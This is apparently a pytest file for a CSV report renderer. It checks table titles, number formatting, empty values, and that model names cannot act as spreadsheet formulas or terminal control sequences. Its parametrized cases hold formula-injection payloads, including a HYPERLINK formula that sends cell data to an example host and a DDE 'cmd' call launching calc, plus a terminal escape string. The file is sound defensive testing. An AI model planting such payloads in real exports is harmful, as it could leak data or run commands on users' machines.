from __future__ import annotations

import csv
import io

import pytest

from app.analytics.formats.csv import render
from tests.app.analytics.formats.reports import named, report


def tables(text: str) -> list[list[list[str]]]:
    """As a program reads it: tables with an empty line between."""
    found: list[list[list[str]]] = [[]]
    for line in csv.reader(io.StringIO(text, newline="")):
        if line:
            found[-1].append(line)
        else:
            found.append([])
    return found


def test_each_answer_is_a_table_with_its_titles() -> None:
    totals, costs = tables(render(report(), None))

    assert totals[0] == ["answer", "period", "reviews"]
    assert costs[0] == [
        *("answer", "model", "calls", "cost", "p95"),
        *("errors", "errors_low", "errors_high", "errors_part", "errors_whole"),
    ]


def test_values_are_plain_numbers() -> None:
    _, (_, line) = tables(render(report(), None))

    assert line[:6] == ["costs", "anthropic/opus", "1234", "0.000000000012", "2.5", "0.5"]
    assert line[8:] == ["30", "60"]


def test_what_nobody_knows_is_empty_in_all_its_columns() -> None:
    _, (titles, line) = tables(render(report(("anthropic/opus", 1, None, None, None)), None))

    assert line[3:] == [""] * 7
    assert len(line) == len(titles)


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "＝1",
        '=HYPERLINK("https://example.com?"&A1,"x")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_no_name_is_a_formula(name: str) -> None:
    _, (_, line) = tables(render(named(name), None))

    assert line[1] == f"'{name}"


def test_a_name_cannot_act_on_a_terminal() -> None:
    text = render(named("\x1b]0;gpt\x07\x00\u202e"), None)

    assert "␛]0;gpt␇␀⟨U+202E⟩" in text


def test_a_name_with_a_comma_and_quotes_stays_one_cell() -> None:
    _, (_, line) = tables(render(named('a, "b"'), None))

    assert line[1] == 'a, "b"'
